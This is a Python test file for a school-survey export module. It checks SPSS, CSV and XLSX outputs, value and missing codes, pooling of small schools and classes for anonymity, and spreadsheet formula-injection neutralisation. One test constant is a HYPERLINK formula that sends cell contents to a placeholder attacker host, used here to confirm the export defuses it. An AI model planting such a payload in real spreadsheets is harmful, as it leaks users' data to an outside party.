"""Respondent-level exports (surveys.exports through web.exporting): the .sav read back with its
labels, value labels, user-missing codes and measurement levels in pyreadstat and in R's haven;
the missing codes of «не знаю», not asked and not answered; one 0/1 variable per option; SPSS
names and label limits; small schools and classes pooled, ids renumbered, nothing that leads
back to a person; formula injection neutralised in CSV and XLSX with numbers kept numbers; the
codebook."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pyreadstat
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from instruments.schema import Instrument
from surveys import models as m
from surveys.campaigns import create_campaign, create_links
from surveys.exports import (
    POOLED_SCHOOL,
    anonymised_respondents,
    codebook_html,
    codebook_xlsx,
    write,
)
from surveys.exports.cells import DANGEROUS_PREFIXES, csv_cell
from surveys.exports.frames import LABEL_BYTES, cut
from surveys.instrument_store import store_instrument
from tests.conftest import _missing
from tests.factories import TODAY, make_district, make_response, make_school
from web.exporting import ResponseExport, order_key, response_export

KEY = order_key("test-secret")
LONG = "Очень длинная формулировка вопроса, " * 12  # about 430 characters, 800 bytes
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"нажмите")'

DEFINITION = {
    "code": "exp_test",
    "version": 2,
    "title": {"ru": "Проверочная анкета <выгрузки>"},
    "audience": "student",
    "grades": [5, 11],
    "response_scales": [
        {
            "code": "bipolar",
            "options": [
                {"value": -2, "label": {"ru": "Совсем нет"}},
                {"value": -1, "label": {"ru": "Скорее нет"}},
                {"value": 0, "label": {"ru": "И да, и нет"}},
                {"value": 1, "label": {"ru": "Скорее да"}},
                {"value": 2, "label": {"ru": "Да"}},
                {"value": 9, "label": {"ru": "Не знаю"}, "missing": True},
            ],
        },
    ],
    "sections": [
        {
            "code": "one",
            "title": {"ru": "Первая страница"},
            "items": [
                {"code": "grade", "type": "grade", "text": {"ru": "В каком ты классе?"}},
                {
                    "code": "to",
                    "type": "single_choice",
                    "text": {"ru": "Ходишь ли ты в кружки <b>после уроков</b>?"},
                    "options": [
                        {"value": 1, "label": {"ru": "Да"}},
                        {"value": 2, "label": {"ru": "Нет"}},
                        {"value": 8, "label": {"ru": "Не знаю"}, "missing": True},
                    ],
                },
                {
                    "code": "hobby",
                    "type": "multiple_choice",
                    "relevant": "to = 1",
                    "text": {"ru": "Какие кружки?"},
                    "options": [
                        {"value": 1, "label": {"ru": "Спорт"}},
                        {"value": 2, "label": {"ru": "Музыка"}},
                        {"value": 3, "label": {"ru": "Робототехника"}},
                    ],
                },
                {
                    "code": "hobby_1",
                    "type": "number",
                    "min": -50,
                    "max": 50,
                    "text": {"ru": "Изменение числа часов в неделю"},
                },
                {
                    "code": "letter",
                    "type": "class_letter",
                    "text": {"ru": "Буква класса"},
                },
            ],
        },
        {
            "code": "two",
            "title": {"ru": "Вторая страница"},
            "items": [
                {
                    "code": "mood",
                    "type": "matrix",
                    "response_scale": "bipolar",
                    "text": {"ru": "Согласен ли ты?"},
                    "rows": [
                        {"code": "mood_1", "text": {"ru": "Мне нравится в школе"}},
                        {"code": "mood_2", "text": {"ru": "Мне скучно"}, "reverse": True},
                    ],
                },
                {
                    "code": "long_q",
                    "type": "likert",
                    "response_scale": "bipolar",
                    "text": {"ru": LONG},
                },
                {"code": "comment", "type": "long_text", "text": {"ru": "Что ещё?"}},
            ],
        },
    ],
    "scales": [
        {
            "code": "mood_scale",
            "title": {"ru": "Отношение к школе"},
            "items": ["mood_1", "mood_2"],
            "higher_is": "favourable",
        }
    ],
}


@dataclass
class Scenario:
    campaign_id: int
    submission_ids: list[str]
    link_codes: list[str]
    response_ids: list[int]


def _answers(**overrides: object) -> dict[str, object]:
    base: dict[str, object] = {"grade": 7, "to": 2, "mood_1": 1, "mood_2": -1, "long_q": 0}
    base.update(overrides)
    return {k: v for k, v in base.items() if v is not None}


@pytest.fixture
def scenario(db: Session) -> Scenario:
    """School BIG: 10 answers (5 in 7А, 1 in 7Б, 4 without a class); school SMALL1 with 2 and
    SMALL2 with 3 (both under the minimum of 5)."""
    district = make_district(db)
    big = make_school(db, district, code="BIG")
    small1 = make_school(db, district, code="SMALL1")
    small2 = make_school(db, district, code="SMALL2")
    version = store_instrument(db, Instrument.model_validate(DEFINITION))
    campaign = create_campaign(
        db,
        district=district,
        title="Проверка выгрузки",
        opens_on=TODAY,
        closes_on=TODAY,
        schools=[big, small1, small2],
        fieldings=[version],
    )
    links = create_links(db, campaign)
    link = {s.code: next(lk for lk in links if lk.school_id == s.id) for s in (big, small1, small2)}
    rows: list[tuple[str, str | None, dict[str, object]]] = [
        # «не знаю» on `to`, so `hobby` was not asked
        ("BIG", "7А", _answers(to=8, comment=INJECTION)),
        # shown `hobby` and left it unanswered
        ("BIG", "7А", _answers(to=1)),
        ("BIG", "7А", _answers(to=1, hobby=[1, 3], hobby_1=-12)),
        # a negative scale score: mood_1 = -2, mood_2 = 1 reversed to -1 -> -1.5
        ("BIG", "7А", _answers(mood_1=-2, mood_2=1, long_q=9)),
        ("BIG", "7А", _answers(grade=None, letter="Б")),
        ("BIG", "7Б", _answers(comment="+7 999 — позвоните")),
        ("BIG", None, _answers()),
        ("BIG", None, _answers()),
        ("BIG", None, _answers()),
        ("BIG", None, _answers(comment="@all\tи\rвсё")),
        ("SMALL1", None, _answers(comment="-1 из маленькой школы")),
        ("SMALL1", None, _answers()),
        ("SMALL2", "5В", _answers()),
        ("SMALL2", "5В", _answers()),
        ("SMALL2", "5В", _answers()),
    ]
    responses = [
        make_response(db, link[code], class_name=class_name, answers=answers, duration_seconds=300)
        for code, class_name, answers in rows
    ]
    db.commit()
    return Scenario(
        campaign_id=campaign.id,
        submission_ids=[r.submission_id for r in responses],
        link_codes=[lk.code for lk in links],
        response_ids=[r.id for r in responses],
    )


def _export(db: Session, scenario: Scenario, key: bytes = KEY) -> ResponseExport:
    return response_export(db, scenario.campaign_id, "student", instrument_code="exp_test", key=key)


def _sav(tmp_path: Path, export: ResponseExport, which: str = "answers") -> Path:
    path = tmp_path / f"{which}.sav"
    path.write_bytes(write(getattr(export, which), "sav"))
    return path


def _row_of(export: ResponseExport, answers_filter: dict[str, object]) -> dict[str, object]:
    data = export.answers.data
    mask = True
    for column, value in answers_filter.items():
        mask = mask & (data[column] == value)
    rows = data[mask]
    assert len(rows) == 1, rows
    return rows.iloc[0].to_dict()


def test_sav_reads_back_with_labels_value_labels_missing_and_measures(
    db: Session, scenario: Scenario, tmp_path: Path
) -> None:
    export = _export(db, scenario)
    data, meta = pyreadstat.read_sav(str(_sav(tmp_path, export)), user_missing=True)
    # the code and version first: SPSS keeps 64 bytes of a file label
    assert meta.file_label == cut("exp_test v2 · Проверочная анкета <выгрузки>", 64)
    assert meta.file_label.startswith("exp_test v2 · ")
    assert list(data.columns) == [
        "resp_id", "school", "class", "date", "duration_s", "form", "form_version",
        "grade", "to_2", "hobby_1_2", "hobby_2", "hobby_3", "hobby_1", "letter",
        "mood_1", "mood_2", "long_q", "comment",
    ]  # fmt: skip
    labels = meta.column_names_to_labels
    # "to" is one of SPSS's reserved words, and the first option of "hobby" meets the item
    # "hobby_1": both renamed, the item's code kept in the codebook.
    assert labels["to_2"] == "Ходишь ли ты в кружки <b>после уроков</b>?"
    assert labels["hobby_1_2"] == "Какие кружки?: Спорт"
    assert labels["hobby_1"] == "Изменение числа часов в неделю"
    assert labels["mood_2"] == "Согласен ли ты? — Мне скучно"
    long_label = labels["long_q"]
    assert len(long_label.encode("utf-8")) <= LABEL_BYTES
    assert long_label == cut(LONG, LABEL_BYTES) and LONG.startswith(long_label)
    values = meta.variable_value_labels
    assert values["mood_1"] == {
        -2: "Совсем нет",
        -1: "Скорее нет",
        0: "И да, и нет",
        1: "Скорее да",
        2: "Да",
        -7: "Не знаю",
        -8: "не задавался (условие показа не выполнено)",
        -9: "нет ответа (вопрос пропущен)",
    }
    assert values["to_2"][1] == "Да" and values["to_2"][-7] == "Не знаю"
    assert values["hobby_2"] == {
        0: "не выбран",
        1: "выбран",
        -8: "не задавался (условие показа не выполнено)",
        -9: "нет ответа (вопрос пропущен)",
    }
    assert values["letter"][2] == "Б"  # class letters numbered in their order
    missing = {
        name: sorted(r["lo"] for r in ranges) for name, ranges in meta.missing_ranges.items()
    }
    assert missing["mood_1"] == [-9, -8, -7]
    assert missing["hobby_2"] == [-9, -8]
    # hobby_1 may be as low as -50: its codes come from a family below that
    assert missing["hobby_1"] == [-99, -98]
    measures = meta.variable_measure
    assert measures["mood_1"] == "ordinal" and measures["long_q"] == "ordinal"
    assert measures["to_2"] == "nominal" and measures["hobby_2"] == "nominal"
    assert measures["hobby_1"] == "scale" and measures["comment"] == "nominal"
    assert set(data["form"]) == {"exp_test"} and set(data["form_version"]) == {2}


def test_missing_codes_of_dont_know_not_asked_and_no_answer(
    db: Session, scenario: Scenario
) -> None:
    export = _export(db, scenario)
    dont_know = _row_of(export, {"comment": INJECTION})
    assert dont_know["to_2"] == -7  # «не знаю» (stored as 8)
    assert [dont_know[f"hobby_{n}"] for n in ("1_2", "2", "3")] == [-8, -8, -8]  # not asked
    skipped = export.answers.data[
        (export.answers.data["to_2"] == 1) & (export.answers.data["hobby_2"] == -9)
    ]
    assert len(skipped) == 1
    assert skipped.iloc[0]["hobby_1_2"] == -9  # shown, left unanswered
    chosen = _row_of(export, {"hobby_1": -12})
    assert [chosen[f"hobby_{n}"] for n in ("1_2", "2", "3")] == [1, 0, 1]
    assert chosen["comment"] == ""
    unsure = _row_of(export, {"long_q": -7})
    assert unsure["mood_1"] == -2
    no_grade = _row_of(export, {"letter": 2})
    assert no_grade["grade"] == -9
    assert (export.answers.data["hobby_1"] == -99).sum() == 14  # no answer elsewhere


def test_small_schools_and_classes_are_pooled(
    db: Session, scenario: Scenario, tmp_path: Path
) -> None:
    export = _export(db, scenario)
    data = export.answers.data
    assert sorted(set(data["school"])) == ["BIG", POOLED_SCHOOL]
    assert (data["school"] == POOLED_SCHOOL).sum() == 5
    assert set(data.loc[data["school"] == POOLED_SCHOOL, "class"]) == {None}
    # 7Б (1 answer) loses its name; with the 4 answers without a class that makes 5
    assert (data["class"] == "7А").sum() == 5
    assert data["class"].isna().sum() == 10
    respondents = export.answers.respondents
    assert (respondents.pooled_schools, respondents.pooled_responses) == (2, 5)
    assert respondents.blanked_classes == 1
    texts = [
        write(frame, "csv", semicolon=semicolon).decode("utf-8-sig")
        for frame in (export.answers, export.scores)
        for semicolon in (False, True)
    ]
    for frame in (export.answers, export.scores):
        book = load_workbook(io.BytesIO(write(frame, "xlsx")))["Данные"]
        texts.append("\n".join(str(c.value) for row in book.iter_rows() for c in row))
        # an uncompressed .sav keeps its strings as they are
        texts.append(write(frame, "sav").decode("utf-8", errors="replace"))
    for content in texts:
        assert "SMALL1" not in content and "SMALL2" not in content
        assert "7Б" not in content and "5В" not in content
        assert POOLED_SCHOOL in content and "BIG" in content
    sav, _ = pyreadstat.read_sav(str(_sav(tmp_path, export, "scores")))
    assert sorted(set(sav["school"])) == ["BIG", POOLED_SCHOOL]


def test_a_lone_small_school_is_pooled_even_under_the_minimum(db: Session) -> None:
    district = make_district(db)
    big, small = make_school(db, district, code="BIG"), make_school(db, district, code="TINY")
    version = store_instrument(db, Instrument.model_validate(DEFINITION))
    campaign = create_campaign(
        db,
        district=district,
        title="Одна маленькая школа",
        opens_on=TODAY,
        closes_on=TODAY,
        schools=[big, small],
        fieldings=[version],
    )
    links = {lk.school_id: lk for lk in create_links(db, campaign)}
    for _ in range(5):
        make_response(db, links[big.id], answers=_answers())
    make_response(db, links[small.id], answers=_answers())
    db.commit()
    export = response_export(db, campaign.id, "student", key=KEY)
    assert sorted(export.answers.data["school"]) == ["BIG"] * 5 + [POOLED_SCHOOL]
    assert "TINY" not in write(export.answers, "csv").decode("utf-8-sig")
    assert "меньше 5" in dict(export.codebook.about)["Школы с малым числом ответов"]


def test_no_identifying_columns_and_ids_renumbered(db: Session, scenario: Scenario) -> None:
    export = _export(db, scenario)
    meta = {"resp_id", "school", "class", "date", "duration_s", "form", "form_version"}
    assert meta <= set(export.answers.data.columns)
    forbidden = ("token", "link", "submission", "ip", "address", "agent", "device", "flags")
    assert not [c for c in export.answers.data.columns if any(f in c for f in forbidden)]
    assert not [c for c in export.scores.data.columns if any(f in c for f in forbidden)]
    assert sorted(export.answers.data["resp_id"]) == list(range(1, 16))
    assert list(export.answers.data["resp_id"]) == list(range(1, 16))
    assert list(export.scores.data["resp_id"]) == list(range(1, 16))
    # The date only, as a date (no time of day).
    assert set(export.answers.data["date"]) == {TODAY}
    content = write(export.answers, "csv").decode("utf-8-sig")
    for secret in scenario.submission_ids + scenario.link_codes:
        assert secret not in content
    # The order is the same at every export with the same key, and another key gives
    # another order (the rows are the same people).
    again = _export(db, scenario)
    assert again.answers.data.equals(export.answers.data)
    other = _export(db, scenario, key=order_key("another-secret"))

    def rows(frame: pd.DataFrame) -> list[tuple[object, ...]]:
        return list(frame.drop(columns="resp_id").itertuples(index=False, name=None))

    assert rows(other.answers.data) != rows(export.answers.data)
    assert sorted(map(repr, rows(other.answers.data))) == sorted(
        map(repr, rows(export.answers.data))
    )
    # The scores file's rows are the answers file's: the same respondent, the same number.
    scores = export.scores.data.set_index("resp_id")
    answers = export.answers.data.set_index("resp_id")
    negative = answers.index[(answers["mood_1"] == -2) & (answers["mood_2"] == 1)]
    assert scores.loc[negative[0], "mood_scale"] == pytest.approx(-1.5)


def _csv_rows(content: bytes, delimiter: str) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_formula_injection_neutralised_and_numbers_kept_numbers(
    db: Session, scenario: Scenario
) -> None:
    export = _export(db, scenario)
    for semicolon, delimiter, negative in ((False, ",", "-1.5"), (True, ";", "-1,5")):
        rows = _csv_rows(write(export.answers, "csv", semicolon=semicolon), delimiter)
        header, body = rows[0], rows[1:]
        comments = [r[header.index("comment")] for r in body]
        assert "'" + INJECTION in comments
        assert "'+7 999 — позвоните" in comments and "'-1 из маленькой школы" in comments
        assert "'@all\tи\rвсё" in comments
        cells = [c for r in body for c in r]
        numbers = [c for c in cells if re.fullmatch(r"-?\d+([.,]\d+)?", c)]
        assert not [c for c in cells if c.startswith(DANGEROUS_PREFIXES) and c not in numbers]
        assert "-12" in [r[header.index("hobby_1")] for r in body]
        assert "-9" in [r[header.index("hobby_2")] for r in body]
        scores = _csv_rows(write(export.scores, "csv", semicolon=semicolon), delimiter)
        assert negative in [r[scores[0].index("mood_scale")] for r in scores[1:]]
        dates = {r[header.index("date")] for r in body}
        assert dates == {TODAY.strftime("%d.%m.%Y" if semicolon else "%Y-%m-%d")}
    book = load_workbook(io.BytesIO(write(export.answers, "xlsx")))
    sheet = book["Данные"]
    header = [c.value for c in sheet[1]]
    column = header.index("comment") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    injected = next(c for c in cells if c.value == INJECTION)
    assert injected.data_type == "s" and injected.quotePrefix
    number = sheet.cell(row=2, column=header.index("mood_1") + 1)
    assert number.data_type == "n"
    scores_sheet = load_workbook(io.BytesIO(write(export.scores, "xlsx")))["Данные"]
    scores_header = [c.value for c in scores_sheet[1]]
    values = [
        scores_sheet.cell(row=r, column=scores_header.index("mood_scale") + 1)
        for r in range(2, scores_sheet.max_row + 1)
    ]
    assert any(c.value == -1.5 and c.data_type == "n" for c in values)
    labels = load_workbook(io.BytesIO(write(export.answers, "xlsx")))["Переменные"]
    assert [c.value for c in labels[1]] == ["Переменная", "Метка", "Значения"]


def test_csv_cell() -> None:
    assert csv_cell(-1.5, decimal=",", digits=None) == "-1,5"
    assert csv_cell(-1.5, decimal=".", digits=None) == "-1.5"
    assert csv_cell(1e-7, digits=None) == "0,0000001"
    assert csv_cell(-0.0001, digits=3) == "0,000"
    assert csv_cell(-7) == "-7"
    for prefix in DANGEROUS_PREFIXES:
        assert csv_cell(f"{prefix}SUM(A1)") == f"'{prefix}SUM(A1)"


def test_codebook(db: Session, scenario: Scenario) -> None:
    export = _export(db, scenario)
    book = export.codebook
    rows = {row[0]: row for row in book.variables}
    assert rows["to_2"][1] == "to"  # the item's own code beside the renamed variable
    assert rows["to_2"][5] == "1 = Да; 2 = Нет"
    assert rows["to_2"][9].startswith("-7 = Не знаю; -8 = не задавался")
    assert rows["hobby_2"][8] == "to = 1"  # condition of showing
    assert rows["mood_2"][6] == "mood_scale (Отношение к школе)"
    assert rows["mood_2"][7] == "да" and rows["mood_1"][7] == ""
    assert rows["hobby_1"][9] == (
        "-98 = не задавался (условие показа не выполнено); -99 = нет ответа (вопрос пропущен)"
    )
    assert rows["comment"][9] == "пусто — не задавался или нет ответа"
    assert book.scales == [
        [
            "mood_scale",
            "Отношение к школе",
            "mood_1, mood_2",
            "mood_2",
            "среднее",
            "50%",
            "благополучие",
            "mood_scale, mood_scale_pomp",
        ]
    ]
    html = codebook_html(book)
    assert "&lt;b&gt;после уроков&lt;/b&gt;" in html and "<b>после" not in html
    assert "&lt;выгрузки&gt;" in html
    workbook = load_workbook(io.BytesIO(codebook_xlsx(book)))
    assert workbook.sheetnames == ["О файле", "Переменные", "Шкалы"]
    sheet = workbook["Переменные"]
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "to = 1" in texts
    # "-7 = ..." starts with "-": a text cell, quote-prefixed
    risky = [c for row in sheet.iter_rows() for c in row if str(c.value or "").startswith("-")]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


R_SCRIPT = r"""
library(haven)
d <- read_sav(commandArgs(trailingOnly = TRUE)[1], user_na = TRUE)
q <- function(s) {
  s <- gsub("\\", "\\\\", s, fixed = TRUE)
  paste0('"', gsub('"', '\\"', s, fixed = TRUE), '"')
}
vars <- c()
for (name in names(d)) {
  x <- d[[name]]
  label <- attr(x, "label")
  labels <- attr(x, "labels")
  pairs <- if (is.null(labels)) character(0) else
    paste0(q(format(unname(labels), scientific = FALSE, trim = TRUE)), ":", q(names(labels)))
  na <- attr(x, "na_values")
  na <- if (is.null(na)) "" else paste(format(na, scientific = FALSE, trim = TRUE), collapse = ",")
  vars <- c(vars, paste0(
    q(name), ':{"label":', if (is.null(label)) "null" else q(label),
    ',"labels":{', paste(pairs, collapse = ","), '}',
    ',"na_values":[', na, ']}'
  ))
}
cat(paste0('{"file_label":', q(attr(d, "label")), ',"n":', nrow(d),
           ',"variables":{', paste(vars, collapse = ","), '}}'))
"""


def _haven() -> str:
    rscript = shutil.which("Rscript")
    if rscript is None:
        _missing("Rscript is not installed (Debian: r-base-core r-cran-haven)")
    probe = subprocess.run(
        [rscript, "-e", "library(haven)"], capture_output=True, text=True, timeout=120
    )
    if probe.returncode != 0:
        _missing(f"R's haven is not installed (Debian: r-cran-haven): {probe.stderr[-300:]}")
    return str(rscript)


def test_sav_reads_back_in_r_haven_with_the_same_labels(
    db: Session, scenario: Scenario, tmp_path: Path
) -> None:
    rscript = _haven()
    export = _export(db, scenario)
    path = _sav(tmp_path, export)
    script = tmp_path / "labels.R"
    script.write_text(R_SCRIPT, encoding="utf-8")
    run = subprocess.run(
        [rscript, str(script), str(path)],
        capture_output=True,
        encoding="utf-8",
        timeout=120,
        env={**os.environ, "LC_ALL": "C.UTF-8"},  # labels printed as UTF-8, not <U+...>
    )
    assert run.returncode == 0, run.stderr[-2000:]
    read = json.loads(run.stdout)
    _, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert read["file_label"] == meta.file_label
    assert read["n"] == 15
    variables = read["variables"]
    assert list(variables) == meta.column_names
    for name in meta.column_names:
        assert variables[name]["label"] == meta.column_names_to_labels[name], name
        expected = {
            str(int(code)): label
            for code, label in meta.variable_value_labels.get(name, {}).items()
        }
        assert variables[name]["labels"] == expected, name
        ranges = meta.missing_ranges.get(name, [])
        assert sorted(variables[name]["na_values"]) == sorted(r["lo"] for r in ranges), name
    assert variables["mood_1"]["labels"]["-7"] == "Не знаю"
    assert variables["long_q"]["label"] == cut(LONG, LABEL_BYTES)
    assert variables["school"]["labels"] == {}


def test_export_names_the_form_when_the_audience_has_several(db: Session) -> None:
    from surveys.errors import InvalidInput, NotFound

    district = make_district(db)
    school = make_school(db, district)
    own = store_instrument(db, Instrument.model_validate(DEFINITION))
    other = store_instrument(
        db, Instrument.model_validate({**DEFINITION, "code": "exp_other", "version": 1})
    )
    campaign = create_campaign(
        db,
        district=district,
        title="Две анкеты",
        opens_on=TODAY,
        closes_on=TODAY,
        schools=[school],
        fieldings=[own, other],
    )
    db.commit()
    with pytest.raises(InvalidInput, match="несколько анкет"):
        response_export(db, campaign.id, "student", key=KEY)
    export = response_export(db, campaign.id, "student", instrument_code="exp_other", key=KEY)
    assert export.answers.instrument_code == "exp_other" and export.answers.data.empty
    assert write(export.answers, "sav")  # an empty file is still a valid .sav
    with pytest.raises(NotFound):
        response_export(db, campaign.id, "parent", instrument_code="exp_other", key=KEY)
    assert db.scalar(select(m.Fielding.id).where(m.Fielding.campaign_id == campaign.id))


def test_a_small_class_is_not_left_recognisable_among_the_unnamed() -> None:
    """7Б (2 answers) loses its name; with no other unnamed rows its 2 would be the school's
    unnamed rows, i.e. 7Б after all, so 7А loses its name too. School Z (8, all in one class)
    keeps it."""
    answers = pd.DataFrame(
        {
            "school_code": ["A"] * 7 + ["Z"] * 8,
            "class_name": ["7А"] * 5 + ["7Б"] * 2 + ["9В"] * 8,
        },
        index=pd.Index(range(101, 116), name="response_id"),
    )
    result = anonymised_respondents(answers, min_group_size=5, order_key=KEY, scope="t")
    frame = result.frame
    assert set(frame.loc[frame["school_code"] == "A", "class_name"]) == {None}
    assert set(frame.loc[frame["school_code"] == "Z", "class_name"]) == {"9В"}
    assert result.blanked_classes == 2 and result.pooled_schools == 0
    assert sorted(frame["respondent_id"]) == list(range(1, 16))
    assert sorted(frame.index) == list(range(101, 116))
